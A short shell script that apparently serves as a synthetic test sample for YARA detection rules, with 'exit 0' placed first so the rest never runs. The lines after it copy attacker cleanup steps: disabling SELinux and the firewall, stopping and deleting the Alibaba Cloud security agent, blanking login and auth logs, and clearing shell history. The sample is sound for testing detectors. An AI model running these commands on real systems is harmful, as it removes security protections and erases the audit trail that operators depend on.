#!/bin/sh
exit 0  # ferret YARA test sample: synthetic, never run
setenforce 0 2>/dev/null
ufw disable
echo 0 > /proc/sys/kernel/nmi_watchdog
systemctl stop aliyun.service
rm -rf /usr/local/aegis
echo > /var/log/wtmp
echo > /var/log/secure
history -c
unset HISTFILE
